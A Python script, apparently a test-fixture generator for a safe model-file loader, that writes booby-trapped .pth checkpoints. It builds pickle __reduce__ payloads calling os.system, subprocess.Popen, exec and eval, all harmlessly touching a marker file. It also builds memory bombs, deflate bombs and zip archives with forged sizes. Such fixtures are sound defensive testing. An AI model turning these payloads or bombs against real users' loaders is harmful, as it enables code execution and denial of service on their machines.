"""Writes .pth files that attack whoever opens them into a folder. Standard library only; nothing here is ever unpickled.

Each pickle that would run something would make the file named by the second argument.
"""

import io
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

OUT, MARKER = Path(sys.argv[1]), sys.argv[2]
MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
SYSTEM = {"little_endian": True, "protocol_version": PROTOCOL, "type_sizes": {"short": 2, "int": 4, "long": 4}}


class Evil:
    def __init__(self, *reduced):
        self.reduced = reduced

    def __reduce__(self):
        return self.reduced


def python(code):
    return f"open({MARKER!r}, 'w').close(); {code}"


ATTACKS = {
    "system": Evil(os.system, (f"touch {MARKER}",)),
    "popen": Evil(subprocess.Popen, (["touch", MARKER],)),
    "exec": Evil(exec, (python("0"),)),
    "eval": Evil(eval, (f"open({MARKER!r}, 'w')",)),
    "open": Evil(open, (MARKER, "w")),
    "getattr": Evil(getattr, ("", "join")),
    "import": Evil(__import__, ("this",)),
    "state": Evil(dict, (), {"a": Evil(os.system, (f"touch {MARKER}",))}),
    "nested": [{"deep": (Evil(os.system, (f"touch {MARKER}",)),)}],
}


def zipped(name, pickled, entries=(), compression=zipfile.ZIP_STORED, root="archive/"):
    with zipfile.ZipFile(OUT / f"{name}.pth", "w", compression) as archive:
        archive.writestr(f"{root}data.pkl", pickled)
        archive.writestr(f"{root}version", b"3\n")
        archive.writestr(f"{root}byteorder", b"little")
        for key, value in entries:
            archive.writestr(f"{root}{key}", value)


def legacy(name, pickled, keys=b"\x80\x02].", after=b""):
    head = b"".join(pickle.dumps(value, protocol=2) for value in (MAGIC, PROTOCOL, SYSTEM))
    (OUT / f"{name}.pth").write_bytes(head + pickled + keys + after)


for name, attack in ATTACKS.items():
    for protocol in range(6):
        for shape, value in (("whole", attack), ("entry", {"feature_mean": attack, "x": 1})):
            pickled = pickle.dumps(value, protocol=protocol)
            zipped(f"{name}_{shape}_{protocol}", pickled)
            legacy(f"{name}_{shape}_{protocol}_legacy", pickled)
evil = pickle.dumps(ATTACKS["system"], protocol=2)
# In the parts that come before and after the object.
head = b"".join(pickle.dumps(value, protocol=2) for value in (MAGIC, PROTOCOL))
(OUT / "legacy_system_info.pth").write_bytes(head + evil + pickle.dumps({}, protocol=2) + b"\x80\x02].")
legacy("legacy_keys", pickle.dumps({}, protocol=2), keys=evil)
# Two entries of one name: a reader may take the other one.
with zipfile.ZipFile(OUT / "two_pickles.pth", "w") as archive:
    for pickled in (pickle.dumps({}, protocol=2), evil):
        archive.writestr("archive/data.pkl", pickled)

# Memory.
bombs = {
    "list_of_lists": b"\x80\x02" + b"]" * 60_000 + b"a" * 59_999 + b".",
    "tuples": b"\x80\x02N" + b"\x85" * 60_000 + b".",
    "dicts": b"\x80\x02" + b"}K\x01" * 20_000 + b"N" + b"s" * 20_000 + b".",
    "laughs": b"\x80\x02]q\x00" + b"".join(b"]" + b"h" + bytes([i]) * 1 + b"a" * 1 + b"q" + bytes([i + 1]) for i in range(200)) + b".",
    "doubling": b"\x80\x02]q\x00" + b"h\x00h\x00\x86q\x00" * 1_000 + b".",
    "duplicates": b"\x80\x02X\xe8\xfd\x00\x00" + b"a" * 65_000 + b"2" * 500 + b".",
    "sparse_memo": b"\x80\x02" + b"".join(b"Nr" + struct.pack("<I", 0xFFFFFFFF - i) + b"0" for i in range(5_000)) + b"N.",
    "huge_memo_text": b"\x80\x02Np" + b"9" * 30 + b"\n.",
    "string": b"\x80\x02X\xff\xff\xff\x7fabc.",
    "string8": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"abc.",
    "bytes8": b"\x80\x04\x8e" + struct.pack("<Q", (1 << 63) - 1) + b"abc.",
    "bytearray8": b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"abc.",
    "frame": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",
    "long4": b"\x80\x02\x8b\xff\xff\xff\x7f\x01.",
    "long_text": b"\x80\x02I" + b"9" * 60_000 + b"\n.",
    "marks": b"\x80\x02" + b"(" * 60_000 + b".",
    "numbers": b"\x80\x02(" + b"K\x01" * 30_000 + b"t.",
    "no_stop": b"\x80\x02" + b"N0" * 30_000,
}
storage = (
    b"\x80\x02}X\x0c\x00\x00\x00feature_meanctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storage"
    b"ctorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpu%stQK\x00(%st(%st\x89ccollections\nOrderedDict\n)RtRs."
)
huge = b"\x8a\x06" + (1 << 40).to_bytes(6, "little")
bombs["storage_size"] = storage % (huge, b"K\x32", b"K\x01")
bombs["tensor_size"] = storage % (b"K\x01", huge, b"K\x00")
bombs["tensor_product"] = storage % (b"K\x01", (b"J\xff\xff\xff\x7f" * 8), (b"K\x00" * 8))
bombs["negative_size"] = storage % (b"K\x32", b"J\xff\xff\xff\xff", b"K\x01")
for name, pickled in bombs.items():
    zipped(f"bomb_{name}", pickled, entries=[("data/0", bytes(200))])
    legacy(f"bomb_{name}_legacy", pickled)

zeros = bytes(64 << 20)
zipped("bomb_deflated_pickle", b"\x80\x02(" + b"N" * (64 << 20) + b"t.", compression=zipfile.ZIP_DEFLATED)
zipped("bomb_deflated_storage", pickle.dumps({}, protocol=2), [("data/0", zeros)], zipfile.ZIP_DEFLATED)
zipped("bomb_entries", pickle.dumps({}, protocol=2), [(f"data/{i}", b"") for i in range(20_000)])
# A size in the directory that lies.
raw = io.BytesIO()
with zipfile.ZipFile(raw, "w") as archive:
    archive.writestr("archive/data.pkl", b"\x80\x02}.")
lying = bytearray(raw.getvalue())
at = lying.index(b"PK\x01\x02")
lying[at + 20 : at + 28] = struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0)
(OUT / "bomb_lying_size.pth").write_bytes(lying)
